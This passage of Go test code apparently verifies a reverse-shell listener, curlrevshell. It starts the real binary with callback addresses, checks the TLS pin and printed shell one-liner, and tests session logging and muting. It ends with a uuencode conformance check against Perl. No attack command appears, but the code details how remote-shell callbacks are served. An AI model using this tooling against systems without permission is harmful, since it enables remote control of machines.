	v := func(sig, what string, rp any) {
		r.Violate(ev.Violation{Signature: "binary/" + sig, What: what, Kind: "c05", Replay: rp})
	}
	files := filepath.Join(base, "binfiles")
	os.MkdirAll(files, 0o755)
	sets := [][]string{
		{"-listen-address", "127.0.0.1:0"},
		{"-listen-address", "127.0.0.1", "-callback-address", "cb.example", "-callback-address", "other.example:8443"},
		{"-listen-address", "[::1]:0", "-serve-files-from", files, "-callback-address", "2001:db8::1"},
		{"-listen-address", "127.0.0.1:0", "-serve-files-from", files, "-no-timestamps"},
		/* The callback address given before the listen address (flags are
		applied left to right), without a port of its own. */
		{"-callback-address", "first.example", "-listen-address", "127.0.0.1:0"},
	}
	n := 0
	for si, set := range sets {
		dir, _ := os.MkdirTemp(base, "bin-")
		cache := filepath.Join(dir, "cache", "cert.txtar")
		first := ""
		for run := 0; run < 2; run++ {
			args := append(append([]string{}, set...), "-tls-certificate-cache", cache)
			rp := map[string]any{"binary_args": args, "run": run + 1}
			p, addr, err := startReal(dir, args...)
			if nil != err {
				if strings.Contains(strings.Join(set, " "), "::1") {
					r.Set("binary_ipv6_unavailable", err.Error())
					break
				}
				v("no-start", err.Error(), rp)
				break
			}
			c, err := hworld.DialAddr(addr, "")
			if nil != err {
				v("handshake-failed", err.Error(), rp)
				stopReal(p)
				break
			}
			wire, _ := c.LeafPin()
			c.Close()
			out := strings.ReplaceAll(ansiRE.ReplaceAllString(p.Output(), ""), "\r", "")
			pins := c05PinRE.FindAllStringSubmatch(out, -1)
			if 0 == len(pins) {
				v("no-pin-on-terminal", fmt.Sprintf("args %v: no fingerprint on the terminal: %q", args, trunc300(out)), rp)
			}
			for _, m := range pins {
				if m[1] != wire {
					v("advertised-pin-differs", fmt.Sprintf("args %v: the terminal shows pin %q, the listener presents %q", args, m[1], wire), rp)
				}
			}
			_, port, _ := strings.Cut(addr[strings.LastIndex(addr, ":"):], ":")
			liners := c05OneLiner.FindAllStringSubmatch(out, -1)
			if 0 == len(liners) {
				v("no-one-liner-on-terminal", fmt.Sprintf("args %v: no one-liner found on the terminal: %q", args, trunc300(out)), rp)
			}
			for _, m := range liners {
				a := m[2]
				if "other.example:8443" == a {
					continue
				}
				if !strings.HasSuffix(a, ":"+port) {
					v("one-liner-port", fmt.Sprintf("args %v: one-liner names %q, the listener is bound to port %s", args, a, port), rp)
				}
			}
			if 0 == run {
				first = wire
			} else if wire != first {
				v("restart-changes-key", fmt.Sprintf("args %v: the second start on the same cache presents another key", args), rp)
			}
			if st := stopReal(p); 0 != st {
				v("exit-status", fmt.Sprintf("args %v: exit status %d", args, st), rp)
			}
			n++
		}
		_ = si
		os.RemoveAll(dir)
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Set("real_binary_runs", n)
}

// c03RealColor: the real program with NO_COLOR set (and not) in its
// environment, a shell whose output carries escape sequences of its own,
// each within one chunk: the terminal receives them as sent.
func c03RealColor(r *ev.Result, base string) {
	n := 0
	for _, env := range [][]string{{"NO_COLOR=1"}, {"NO_COLOR=1", "TERM=dumb"}, {"TERM=xterm-256color"}} {
		func() {
			dir, _ := os.MkdirTemp(base, "color-")
			defer os.RemoveAll(dir)
			p, addr, err := startRealEnv(dir, env, "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", filepath.Join(dir, "c.txtar"))
			if nil != err {
				ev.Broken("%s", err)
			}
			defer p.Close()
			ci, co, err := realShell(p, addr, "color", 0)
			if nil != err {
				ev.Broken("c03 colour session: %s", err)
			}
			defer ci.Close()
			defer co.Close()
			from := len(p.Output())
			/* (Whole sequences only: the program redraws its prompt around every
			write, so a sequence split over two chunks is interleaved with the
			prompt's own on the unchanged tree as well.) */
			pieces := []string{"one \x1b[31mRED\x1b[0m two\n", "three \x1b[32mGREEN\x1b[0m four\n", "END-OF-COLOURS\n"}
			for _, c := range pieces {
				co.Send(chunk(c))
				time.Sleep(30 * time.Millisecond) /* Separate reads, usually. */
			}
			p.WaitFor(regexp.MustCompile(`END-OF-COLOURS`), from, 30*time.Second)
			got := p.Output()[from:]
			n++
			for _, want := range []string{"one \x1b[31mRED\x1b[0m two", "three \x1b[32mGREEN\x1b[0m four"} {
				if !strings.Contains(got, want) {
					r.Violate(ev.Violation{Signature: "binary/shell-escape-sequences-changed", Kind: "c03term", Replay: map[string]string{"environment": strings.Join(env, ",")},
						What: fmt.Sprintf("real binary with %v in its environment: the shell sent %q, the terminal did not receive %q but %q", env, pieces, want, trunc300(got))})
					break
				}
			}
		}()
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Set("real_binary_colour_sessions", n)
}

// c11RealBinary: a session of the real binary with -log; the file must be a
// sequence of one-line JSON objects telling the same story.
func c11RealBinary(r *ev.Result, base string) {
	/* A run may end by the operator leaving, or by the process being
	killed: what was delivered before is in the file either way. */
	c11RealSession(r, base, "ctrl-d", 1)
	c11RealSession(r, base, "sigkill", 1)
	/* A log file that already holds an earlier run is continued, not
	written over: two runs on one file. */
	{
		dir, _ := os.MkdirTemp(base, "log2-")
		defer os.RemoveAll(dir)
		c11LogDir = dir
		c11RealSession(r, base, "ctrl-d", 1)
		c11RealSession(r, base, "ctrl-d", 2)
		c11LogDir = ""
	}
	c11UnusableLog(r, base)
	/* -log given twice: whatever the program makes of the first, the file
	named last is a transcript like any other. */
	{
		dir, _ := os.MkdirTemp(base, "log3-")
		defer os.RemoveAll(dir)
		c11LogDir, c11ExtraLog = dir, filepath.Join(dir, "first.json")
		c11RealSession(r, base, "ctrl-d", 1)
		c11LogDir, c11ExtraLog = "", ""
	}
}

// c11ExtraLog, if set, is given as a first -log before the one that is judged.
var c11ExtraLog string

// c11UnusableLog: -log names a file that cannot be opened (its directory is
// missing, a path component is a regular file, the path is a directory).  The
// program may refuse to start (whether it says so properly is C20's); if it
// serves, whatever it delivers has to be in a log that exists.
func c11UnusableLog(r *ev.Result, base string) {
	for _, kind := range []string{"directory-missing", "component-is-a-file", "path-is-a-directory"} {
		dir, _ := os.MkdirTemp(base, "nolog-")
		logf := filepath.Join(dir, "missing", "session.json")
		switch kind {
		case "component-is-a-file":
			os.WriteFile(filepath.Join(dir, "afile"), []byte("x"), 0o644)
			logf = filepath.Join(dir, "afile", "session.json")
		case "path-is-a-directory":
			logf = filepath.Join(dir, "adir")
			os.MkdirAll(logf, 0o755)
		}
		func() {
			defer os.RemoveAll(dir)
			p, addr, err := startReal(dir, "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", filepath.Join(dir, "c.txtar"), "-log", logf)
			r.Add(1)
			r.AddDistinct(1)
			if nil != err {
				return /* Refused to start. */
			}
			defer p.Close()
			wait := func(re string) bool { return p.WaitFor(regexp.MustCompile(re), 0, 30*time.Second) >= 0 }
			ci, _ := hworld.DialAddr(addr, "")
			ci.Send(hworld.Get("/i/nologk", addr))
			co, _ := hworld.DialAddr(addr, "")
			co.Send("POST /o/nologk HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
			defer ci.Close()
			defer co.Close()
			if !wait(`Shell is ready`) {
				return
			}
			p.Send("a line for the shell\r")
			ci.ReadHeader("GET")
			ci.C.SetReadDeadline(time.Now().Add(30 * time.Second))
			got, buf := "", make([]byte, 4096)
			for !strings.Contains(got, "a line for the shell") {
				n, err := ci.R.Read(buf)
				got += string(buf[:n])
				if nil != err {
					return
				}
			}
			stopReal(p)
			b, err := os.ReadFile(logf)
			if nil != err || !bytes.Contains(b, []byte("a line for the shell")) {
				r.Violate(ev.Violation{Signature: "logfile/delivered-without-a-log/" + kind, Kind: "c11file", Replay: map[string]string{"scenario": "real binary with -log naming a file that cannot be opened: " + kind},
					What: fmt.Sprintf("-log %s (%s): the program served all the same, a shell attached and was delivered the line %q, and there is no log holding it (%v)", logf, kind, "a line for the shell", err)})
			}
		}()
	}
}

// c11LogDir, if set, is where the next sessions keep their (shared) log file.
var c11LogDir string

func c11RealSession(r *ev.Result, base, endBy string, nth int) {
	v := func(sig, what string) {
		if "ctrl-d" != endBy {
			sig += "/" + endBy
			what = "session ended by " + endBy + " right after the 'gone' notice: " + what
		}
		r.Violate(ev.Violation{Signature: "logfile/" + sig, What: what, Kind: "c11file", Replay: map[string]string{"scenario": "real binary with -log, ended by " + endBy}})
	}
	dir, _ := os.MkdirTemp(base, "log-")
	defer os.RemoveAll(dir)
	logf := filepath.Join(dir, "session.json")
	if "" != c11LogDir {
		logf = filepath.Join(c11LogDir, "session.json")
	}
	if nth > 1 {
		endBy = fmt.Sprintf("%s (run %d on one log file)", endBy, nth)
	}
	largs := []string{"-listen-address", "127.0.0.1:0", "-tls-certificate-cache", filepath.Join(dir, "c.txtar")}
	if "" != c11ExtraLog {
		largs = append(largs, "-log", c11ExtraLog)
		endBy += " (-log given twice)"
	}
	p, addr, err := startReal(dir, append(largs, "-log", logf)...)
	if nil != err {
		ev.Broken("%s", err)
	}
	defer p.Close()
	wait := func(re string) bool { return p.WaitFor(regexp.MustCompile(re), 0, 30*time.Second) >= 0 }
	ci, _ := hworld.DialAddr(addr, "")
	ci.Send(hworld.Get("/i/logk", addr))
	if !wait(`Input connected`) {
		v("session", "no 'Input connected'")
		return
	}
	cr, _ := hworld.DialAddr(addr, "")
	cr.Send("POST /o/other HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
	if !wait(`Rejected output connection`) {
		v("session", "no refusal notice")
		return
	}
	cr.Close()
	co, _ := hworld.DialAddr(addr, "")
	co.Send("POST /o/logk HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
	if !wait(`Shell is ready`) {
		v("session", "no ready notice")
		return
	}
	lines := []string{"first \"quoted\" line", "second \\ line", "third line with %s and {{.}}"}
	for _, l := range lines {
		p.Send(l + "\r")
	}
	got := ""
	buf := make([]byte, 4096)
	ci.ReadHeader("GET")
	ci.C.SetReadDeadline(time.Now().Add(30 * time.Second))
	for !strings.Contains(got, "third line") {
		n, err := ci.R.Read(buf)
		got += string(buf[:n])
		if nil != err {
			v("session", "lines did not arrive: "+err.Error())
			return
		}
	}
	chunks := []string{"chunk one\n", "chunk \"two\" \xff\n", "chunk three without newline"}
	for i, c := range chunks {
		co.Send(chunk(c))
		if !wait(regexp.QuoteMeta(strings.Fields(c)[0] + " " + []string{"one", `"two"`, "three"}[i])) {
			v("session", fmt.Sprintf("chunk %d was not displayed", i))
			return
		}
	}
	co.Send("0\r\n\r\n")
	if !wait(`Shell is gone`) {
		v("session", "no 'gone' notice")
		return
	}
	/* Both handlers have returned (and so have written their last records)
	once the server has ended both exchanges. */
	ci.C.SetReadDeadline(time.Now().Add(30 * time.Second))
	for tailBytes := ""; !strings.HasSuffix(tailBytes, "0\r\n\r\n"); {
		b, err := ci.R.ReadByte() /* up to the last chunk of the /i response */
		if nil != err {
			break
		}
		tailBytes += string(b)
		if len(tailBytes) > 16 {
			tailBytes = tailBytes[len(tailBytes)-8:]
		}
	}
	co.C.SetReadDeadline(time.Now().Add(30 * time.Second))
	co.ReadResponse("POST")
	ci.Close()
	co.Close()
	if strings.HasPrefix(endBy, "sigkill") {
		p.Cmd.Process.Signal(syscall.SIGKILL)
		p.Wait(30 * time.Second)
	} else if st := stopReal(p); 0 != st {
		v("exit-status", fmt.Sprintf("exit status %d", st))
	}
	/* The file. */
	f, err := os.Open(logf)
	if nil != err {
		v("missing", err.Error())
		return
	}
	defer f.Close()
	type rec struct {
		Msg, Level, Direction, Data, Error string
		Raw                                map[string]any
	}
	var recs []rec
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); nil != err {
			v("unparsable-line", fmt.Sprintf("log line %q is not one JSON object: %v", sc.Text(), err))
			continue
		}
		s := func(k string) string { x, _ := m[k].(string); return x }
		recs = append(recs, rec{Msg: s("msg"), Level: s("level"), Direction: s("direction"), Data: s("data"), Error: s("error"), Raw: m})
	}
	var inData, outData []string
	count := map[string]int{}
	for _, rc := range recs {
		count[rc.Msg+"/"+rc.Direction+"/"+rc.Level]++
		if "Shell I/O" == rc.Msg {
			if "input" == rc.Direction {
				inData = append(inData, rc.Data)
			} else {
				outData = append(outData, rc.Data)
			}
		}
	}
	var wantIn []string
	for k := 0; k < nth; k++ {
		for _, l := range lines {
			wantIn = append(wantIn, l+"\n")
		}
	}
	if fmt.Sprint(inData) != fmt.Sprint(wantIn) {
		v("input-records", fmt.Sprintf("input records %q, lines delivered %q", inData, wantIn))
	}
	/* Output records carry the JSON image of the chunks (the transport may
	have split or merged them; the concatenation decides). */
	var wantOut bytes.Buffer
	for k := 0; k < nth; k++ {
		for _, c := range chunks {
			wantOut.WriteString(c)
		}
	}
	enc, _ := json.Marshal(wantOut.String())
	var wantOutS string
	json.Unmarshal(enc, &wantOutS)
	if strings.Join(outData, "") != wantOutS {
		v("output-records", fmt.Sprintf("output records %q, chunks shown %q", outData, wantOutS))
	}
	for _, k := range []string{"New connection/input/INFO", "New connection/output/INFO", "Disconnected/input/INFO", "Disconnected/output/INFO"} {
		if nth != count[k] {
			v("connection-records", fmt.Sprintf("%d records %q in the log (want %d); all: %v", count[k], k, nth, count))
		}
	}
	if nth != count["Incorrect key/output/ERROR"] {
		v("refusal-record", fmt.Sprintf("%d error records for the refused stream (want %d 'Incorrect key'); all: %v", count["Incorrect key/output/ERROR"], nth, count))
	}
	r.Add(1)
	r.AddDistinct(1)
	r.Traces++
	r.Set("real_binary_log_records", len(recs))
}

// c19RealBinary: one muting session of the real program on a pty in real
// time, Ctrl+O typed as a key.  Only bounds that hold however loaded the
// machine is are judged: muted output never appears, status lines do, the
// un-muting is announced no earlier than the pause interval after a chunk the
// program had certainly received, and it is announced at all (within 30 s).
func c19RealBinary(r *ev.Result, base string) {
	for _, extra := range [][]string{nil, {"-no-timestamps"}} {
		cls := "default"
		if nil != extra {
			cls = strings.TrimPrefix(extra[0], "-")
		}
		type finding struct{ sig, what string }
		session := func() (fs []finding) {
			v := func(sig, what string) { fs = append(fs, finding{sig, what}) }
			dir, _ := os.MkdirTemp(base, "mute-")
			defer os.RemoveAll(dir)
			args := append([]string{"-listen-address", "127.0.0.1:0", "-tls-certificate-cache", filepath.Join(dir, "c.txtar")}, extra...)
			p, addr, err := startReal(dir, args...)
			if nil != err {
				ev.Broken("%s", err)
			}
			defer p.Close()
			waitFrom := func(re string, from int) int { return p.WaitFor(regexp.MustCompile(re), from, 30*time.Second) }
			ci, _ := hworld.DialAddr(addr, "")
			ci.Send(hworld.Get("/i/mutek", addr))
			co, _ := hworld.DialAddr(addr, "")
			co.Send("POST /o/mutek HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
			defer ci.Close()
			defer co.Close()
			if waitFrom(`Shell is ready`, 0) < 0 {
				v("session", "no ready notice: "+trunc300(p.Output()))
				return
			}
			co.Send(chunk("BEFORE-MUTE visible\n"))
			if waitFrom(`BEFORE-MUTE visible`, 0) < 0 {
				v("output-suppressed", "shell output is not displayed although Ctrl+O was never pressed")
				return
			}
			p.Send("\x0f")
			if waitFrom(`Muting until`, 0) < 0 {
				v("ctrl-o-not-announced", "Ctrl+O typed on the terminal, no 'Muting until ...' announcement: "+trunc300(p.Output()))
				return
			}
			mark := len(p.Output())
			/* A flood with gaps of half a second, for three seconds; a
			refused connection in the middle produces a status line. */
			var sent []time.Time
			for i := 0; i < 6; i++ {
				sent = append(sent, time.Now())
				co.Send(chunk(fmt.Sprintf("MUTED-CHUNK-%d\n", i)))
				if 3 == i {
					cr, _ := hworld.DialAddr(addr, "")
					cr.Send("POST /o/someone-else HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
					if waitFrom(`Rejected [a-z ]*output connection`, mark) < 0 {
						v("status-line-lost", "a refusal notice was not displayed while muted")
					}
					cr.Close()
				}
				time.Sleep(500 * time.Millisecond)
			}
			/* p.WaitFor polls: the time of observation is after the time of
			display. */
			if waitFrom(`Unmuting`, mark) < 0 {
				v("unmute-not-announced", "no 'Unmuting' within 30 s of the last shell output: "+trunc300(p.Output()[mark:]))
				return
			}
			seen := time.Now()
			/* Muted chunks are not acknowledged, so which chunk the program
			had last seen when it decided is not known exactly; the
			last-but-one had been on its socket for a second by then. */
			if ref := sent[len(sent)-2]; seen.Sub(ref) < c19Pause {
				v("unmuted-too-early", fmt.Sprintf("'Unmuting' was on the terminal %v after the last-but-one chunk was sent, i.e. less than the pause interval after a chunk the program had received; terminal since Ctrl+O: %q", seen.Sub(ref), trunc300(p.Output()[mark:])))
				if d := os.Getenv("VERIF_C19_DEBUG"); "" != d {
					os.WriteFile(d, []byte(fmt.Sprintf("%q\nsent %v\nseen %v\n", p.Output(), sent, seen)), 0o644)
				}
			}
			if out := p.Output()[mark:]; strings.Contains(out, "MUTED-CHUNK-") {
				/* Only chunks sent before the announcement count. */
				if i := strings.Index(out, "Unmuting"); i < 0 || strings.Contains(out[:i], "MUTED-CHUNK-") {
					v("muted-output-shown", "shell output sent while muted was displayed: "+trunc300(out))
				}
			}
			co.Send(chunk("AFTER-MUTE visible\n"))
			if waitFrom(`AFTER-MUTE visible`, mark) < 0 {
				v("output-suppressed", "shell output sent after 'Unmuting' is not displayed")
			}
			if st := stopReal(p); 0 != st {
				v("exit-status", fmt.Sprintf("exit status %d", st))
			}
			return fs
		}
		fs := session()
		r.Add(1)
		r.AddDistinct(1)
		r.Traces++
		/* The one judgement that involves the wall clock is only believed
		if two more sessions show it too. */
		early := func(fs []finding) bool {
			for _, f := range fs {
				if "unmuted-too-early" == f.sig {
					return true
				}
			}
			return false
		}
		confirmed := true
		if early(fs) {
			for k := 0; k < 2 && confirmed; k++ {
				confirmed = early(session())
				r.Traces++
			}
		}
		for _, f := range fs {
			if "unmuted-too-early" == f.sig && !confirmed {
				r.Inc("real_binary_early_unmute_not_reproduced", 1)
				continue
			}
			r.Violate(ev.Violation{Signature: "real-binary/" + f.sig + "/" + cls, What: f.what, Kind: "c19real", Replay: map[string]string{"scenario": "real binary, Ctrl+O typed on the pty, flags " + strings.Join(extra, " ")}})
		}
	}
	r.Set("real_binary_mute_sessions", 2)
}
