package checks

/*
 * C15 — uuencode is Perl-compatible and round-trips; decoding is total and
 * pure.  Bounded-exhaustive enumeration of: all 2^24 three-byte groups, all
 * line fills, all total lengths up to a bound, and all short strings over a
 * decoder-relevant alphabet, against a reference encoder written from the
 * format description and against perl's pack/unpack.
 */

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/lib/uu"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

func init() {
	registry["C15"] = checkDef{level: "exploration", run: c15, replay: c15Replay}
}

// refEncode is the reference encoder: lines of up to 45 bytes, a length
// character, groups of three bytes (zero padded) as four six-bit characters
// offset by 32 with zero written as a backquote.
func refEncode(src []byte) []byte {
	var out []byte
	for len(src) > 0 {
		n := len(src)
		if n > 45 {
			n = 45
		}
		line := src[:n]
		src = src[n:]
		out = append(out, byte(32+n))
		for i := 0; i < n; i += 3 {
			var g [3]byte
			copy(g[:], line[i:min(i+3, n)])
			v := uint32(g[0])<<16 | uint32(g[1])<<8 | uint32(g[2])
			for s := 18; s >= 0; s -= 6 {
				c := byte(v>>uint(s)) & 0x3f
				if 0 == c {
					out = append(out, '`')
				} else {
					out = append(out, 32+c)
				}
			}
		}
		out = append(out, '\n')
	}
	return out
}

// perlUU is a long-lived perl process answering pack/unpack requests.
type perlUU struct {
	cmd *exec.Cmd
	in  io.WriteCloser
	out *bufio.Reader
}

const perlUUScript = `binmode STDIN; binmode STDOUT; $|=1;
while (read(STDIN,$l,4)==4) {
	$n=unpack("N",$l); $d="";
	if ($n) { $got=0; while ($got<$n) { $r=read(STDIN,$d,$n-$got,$got); last unless $r; $got+=$r; } }
	$e=pack("u",$d); $u=unpack("u",$e);
	print pack("N",length $e),$e,pack("N",length $u),$u;
}`

func newPerlUU() (*perlUU, error) {
	cmd := exec.Command("perl", "-e", perlUUScript)
	in, err := cmd.StdinPipe()
	if nil != err {
		return nil, err
	}
	out, err := cmd.StdoutPipe()
	if nil != err {
		return nil, err
	}
	if err := cmd.Start(); nil != err {
		return nil, err
	}
	return &perlUU{cmd: cmd, in: in, out: bufio.NewReaderSize(out, 1<<20)}, nil
}

// roundTrip returns perl's pack("u",d) and unpack("u",that).
func (p *perlUU) roundTrip(d []byte) (enc, dec []byte, err error) {
	var l [4]byte
	binary.BigEndian.PutUint32(l[:], uint32(len(d)))
	errc := make(chan error, 1)
	go func() {
		if _, err := p.in.Write(l[:]); nil != err {
			errc <- err
			return
		}
		_, err := p.in.Write(d)
		errc <- err
	}()
	rd := func() ([]byte, error) {
		var l [4]byte
		if _, err := io.ReadFull(p.out, l[:]); nil != err {
			return nil, err
		}
		b := make([]byte, binary.BigEndian.Uint32(l[:]))
		_, err := io.ReadFull(p.out, b)
		return b, err
	}
	if enc, err = rd(); nil != err {
		return nil, nil, err
	}
	if dec, err = rd(); nil != err {
		return nil, nil, err
	}
	if err := <-errc; nil != err {
		return nil, nil, err
	}
	return enc, dec, nil
}

func (p *perlUU) close() {
	p.in.Close()
	p.cmd.Wait()
}

// c15Case is a replayable C15 input.
type c15Case struct {
	Op  string `json:"op"` /* encode | decode */
	Hex string `json:"hex"`
}

func c15Viol(r *ev.Result, sig, what, op string, data []byte) {
	if len(data) > 4096 {
		data = data[:4096]
	}
	r.Violate(ev.Violation{
		Signature: sig,
		What:      what,
		Kind:      "c15",
		Replay:    c15Case{Op: op, Hex: fmt.Sprintf("%x", data)},
	})
}

// c15CheckEncode checks one input against the reference encoder, the
// decoder and the purity/length clauses.  want may be nil to use the
// reference encoder.
// Calls of the decoder that are under way (the decoder terminates: a call
// that has not come back after five minutes, on at most a mebibyte, never
// will).
var c15InFlight struct {
	sync.Mutex
	next  int
	calls map[int]c15Call
}

type c15Call struct {
	since time.Time
	input []byte
}

func c15Enter(enc []byte) int {
	c15InFlight.Lock()
	defer c15InFlight.Unlock()
	if nil == c15InFlight.calls {
		c15InFlight.calls = map[int]c15Call{}
	}
	c15InFlight.next++
	c15InFlight.calls[c15InFlight.next] = c15Call{time.Now(), enc}
	return c15InFlight.next
}

func c15Leave(slot int) {
	c15InFlight.Lock()
	delete(c15InFlight.calls, slot)
	c15InFlight.Unlock()
}

// c15Watch reports a decoder call that does not return and ends the check
// (which could not end otherwise: its workers wait for that call).
func c15Watch(r *ev.Result, limit time.Duration) {
	for {
		time.Sleep(limit / 10)
		c15InFlight.Lock()
		var stuck *c15Call
		for _, c := range c15InFlight.calls {
			if time.Since(c.since) > limit {
				c := c
				stuck = &c
				break
			}
		}
		n := len(c15InFlight.calls)
		c15InFlight.Unlock()
		if nil != stuck {
			c15Viol(r, "decode-never-returns", fmt.Sprintf("AppendDecode has not returned after %v on an input of %d bytes (%d calls under way at the same moment; the decoder is called from %d goroutines at once throughout this check)", limit, len(stuck.input), n, runtime.GOMAXPROCS(0)), "decode", stuck.input)
			r.Exhaustive = false
			os.Exit(r.Finish())
		}
	}
}

// c15Prefix is what a destination holds already: bytes the codec itself
// treats specially (a space, a backtick, a newline, a length character).
const c15Prefix = "P `\nM"

func c15CheckEncode(r *ev.Result, class string, src []byte) {
	/* Source lives in the middle of a sentinel-filled buffer with spare
	capacity, so any in-place padding or scribbling is seen. */
	back := make([]byte, len(src)+16)
	for i := range back {
		back[i] = 0xA5
	}
	copy(back[8:], src)
	s := back[8 : 8+len(src)] /* cap extends into the sentinel */
	/* Destination is a sentinel prefix with spare capacity. */
	dback := make([]byte, 5, 5+uu.MaxEncodedLen(src)+8)
	copy(dback, c15Prefix)
	var got []byte
	func() {
		defer func() {
			if p := recover(); nil != p {
				c15Viol(r, "encode-panic/"+class, fmt.Sprintf("AppendEncode panicked: %v", p), "encode", src)
			}
		}()
		got = uu.AppendEncode(dback, s)
	}()
	if nil == got {
		return
	}
	want := refEncode(src)
	if !bytes.HasPrefix(got, []byte(c15Prefix)) {
		c15Viol(r, "encode-dst-prefix/"+class, "AppendEncode changed the existing contents of dst", "encode", src)
		return
	}
	enc := got[5:]
	if !bytes.Equal(enc, want) {
		c15Viol(r, "encode-mismatch/"+class, fmt.Sprintf("AppendEncode differs from pack(u): got %q want %q", trunc(enc), trunc(want)), "encode", src)
	}
	if !bytes.Equal(back[8:8+len(src)], src) || !allA5(back[:8]) || !allA5(back[8+len(src):]) {
		c15Viol(r, "encode-src-modified/"+class, "AppendEncode modified its source (or the bytes after it)", "encode", src)
	}
	if m := uu.MaxEncodedLen(src); m < len(enc) {
		c15Viol(r, "maxencodedlen/"+class, fmt.Sprintf("MaxEncodedLen=%d < %d", m, len(enc)), "encode", src)
	}
	/* A destination without any spare capacity (the append has to move
	it): its contents come along. */
	tight := []byte(c15Prefix)[:5:5]
	var got2 []byte
	func() {
		defer func() { recover() }()
		got2 = uu.AppendEncode(tight, s)
	}()
	if nil != got2 && (!bytes.HasPrefix(got2, []byte(c15Prefix)) || !bytes.Equal(got2[5:], want)) {
		c15Viol(r, "encode-dst-prefix/"+class, fmt.Sprintf("AppendEncode to a full destination: result begins %q, want the destination's %q followed by the encoding", trunc(got2[:min(len(got2), 8)]), c15Prefix), "encode", src)
	}
	/* Round trip through the decoder. */
	c15CheckDecode(r, class, want, src, true)
}

func allA5(b []byte) bool {
	for _, v := range b {
		if 0xA5 != v {
			return false
		}
	}
	return true
}

func trunc(b []byte) []byte {
	if len(b) > 80 {
		return b[:80]
	}
	return b
}

// c15CheckDecode decodes enc; if mustEqual, the result must be orig.
// Always: no panic, bytes xor located error, src and dst prefix untouched.
func c15CheckDecode(r *ev.Result, class string, enc, orig []byte, mustEqual bool) (ok bool) {
	back := make([]byte, len(enc)+16)
	for i := range back {
		back[i] = 0xA5
	}
	copy(back[8:], enc)
	s := back[8 : 8+len(enc)]
	dback := make([]byte, 5, 5+len(enc)+8)
	copy(dback, c15Prefix)
	var (
		got      []byte
		err      error
		panicked bool
	)
	func() {
		defer func() {
			if p := recover(); nil != p {
				panicked = true
				c15Viol(r, "decode-panic/"+class, fmt.Sprintf("AppendDecode panicked: %v", p), "decode", enc)
			}
		}()
		slot := c15Enter(enc)
		got, err = uu.AppendDecode(dback, s)
		c15Leave(slot)
	}()
	if panicked {
		return false
	}
	if !bytes.Equal(back[8:8+len(enc)], enc) || !allA5(back[:8]) || !allA5(back[8+len(enc):]) {
		c15Viol(r, "decode-src-modified/"+class, "AppendDecode modified its source", "decode", enc)
	}
	if string(dback[:5]) != c15Prefix {
		c15Viol(r, "decode-dst-prefix/"+class, "AppendDecode changed the existing contents of dst", "decode", enc)
	}
	if nil == err {
		tight := []byte(c15Prefix)[:5:5]
		var got2 []byte
		func() {
			defer func() { recover() }()
			got2, _ = uu.AppendDecode(tight, s)
		}()
		if nil != got2 && (!bytes.HasPrefix(got2, []byte(c15Prefix)) || !bytes.Equal(got2[5:], got[min(5, len(got)):])) {
			c15Viol(r, "decode-dst-prefix/"+class, fmt.Sprintf("AppendDecode to a full destination: result begins %q, want the destination's %q followed by the decoded bytes", trunc(got2[:min(len(got2), 8)]), c15Prefix), "decode", enc)
		}
	}
	if nil != err {
		var de uu.DecodeError
		if !errors.As(err, &de) {
			c15Viol(r, "decode-error-type/"+class, fmt.Sprintf("error does not locate the problem: %T %v", err, err), "decode", enc)
		} else {
			lines := bytes.Split(enc, []byte{'\n'})
			if de.Line < 0 || de.Line >= len(lines) || de.Offset < 0 || de.Offset > len(lines[de.Line]) || nil == de.Err {
				c15Viol(r, "decode-error-location/"+class, fmt.Sprintf("error location outside the input: %+v", de), "decode", enc)
			} else if wl, wo := c15FirstBad(lines); wl != de.Line || (wo >= 0 && wo != de.Offset) {
				c15Viol(r, "decode-error-wrong-place/"+class, fmt.Sprintf("the error points at line %d offset %d (%v); the first problem is on line %d (offset %d) of %q", de.Line, de.Offset, de.Err, wl, wo, trunc(enc)), "decode", enc)
			}
		}
		if nil != got {
			c15Viol(r, "decode-both/"+class, "AppendDecode returned bytes and an error", "decode", enc)
		}
		if mustEqual {
			c15Viol(r, "decode-valid-rejected/"+class, fmt.Sprintf("valid encoding rejected: %v", err), "decode", enc)
		}
		return false
	}
	/* Accepted: then the reference validator must find every line valid
	(a decoder that stops reading somewhere accepts what it never saw). */
	if wl, wo := c15FirstBad(bytes.Split(enc, []byte{'\n'})); wl >= 0 {
		c15Viol(r, "decode-invalid-accepted/"+class, fmt.Sprintf("AppendDecode returned %d bytes and no error although line %d (offset %d) of the input is not valid uuencoded text: %q", len(got)-5, wl, wo, trunc(enc)), "decode", enc)
		return false
	}
	if !bytes.HasPrefix(got, []byte(c15Prefix)) {
		c15Viol(r, "decode-dst-prefix/"+class, "AppendDecode result does not extend dst", "decode", enc)
		return false
	}
	dec := got[5:]
	if mustEqual && !bytes.Equal(dec, orig) {
		c15Viol(r, "decode-roundtrip/"+class, fmt.Sprintf("decode(encode(x)) != x: got %x want %x", trunc(dec), trunc(orig)), "decode", enc)
	}
	if m := uu.MaxDecodedLen(enc); m < len(dec) {
		c15Viol(r, "maxdecodedlen/"+class, fmt.Sprintf("MaxDecodedLen=%d < %d", m, len(dec)), "decode", enc)
	}
	return true
}

// c15FirstBad returns the index (counting every line, blank ones included,
// from 0) of the first line that is not valid uuencoded text, and the offset
// of the first character outside the alphabet on it (-1 if the problem is the
// line's shape rather than one character).  -1, -1 if all lines are valid.
func c15FirstBad(lines [][]byte) (line, offset int) {
	for i, l := range lines {
		if 0 == len(l) {
			continue
		}
		if '\r' == l[len(l)-1] {
			l = l[:len(l)-1]
